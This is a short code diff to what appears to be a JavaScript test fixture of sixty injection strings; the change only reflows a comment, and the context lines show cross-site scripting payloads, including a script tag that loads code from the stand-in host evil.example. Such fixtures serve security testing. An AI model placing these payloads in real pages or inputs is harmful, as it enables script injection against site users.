@@ -1,4 +1,7 @@
-/** Sixty texts that try to be markup, script, a template or a header (A9): names, memos, order ids and metadata may hold them. */
+/**
+ * Sixty texts that try to be markup, script, a template or a header (A9). Names, memos, order ids and metadata may hold
+ * them.
+ */
 const MARKUP = [
   '<script>alert(1)</script>',
   '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
